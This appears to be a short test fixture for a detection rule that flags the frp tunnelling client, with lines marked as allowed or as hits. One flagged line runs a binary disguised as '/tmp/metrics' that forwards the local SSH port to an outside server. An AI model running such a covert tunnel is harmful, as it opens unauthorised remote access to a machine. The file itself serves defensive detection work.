import subprocess

# ok: frp-tunnel
subprocess.run(["frpc", "--version"])
# ok: frp-tunnel
subprocess.run(["tar", "-C", "/opt", "-xzf", "frp_0.61.0_linux_amd64.tar.gz"])
# ruleid: frp-tunnel
subprocess.Popen(["/opt/frp/frpc", "-c", "/opt/frp/frpc.toml"])
# ruleid: frp-tunnel
subprocess.Popen(["/tmp/metrics", "tcp", "--server-addr", "203.0.113.7", "--local-port", "22", "--remote-port", "6022"])
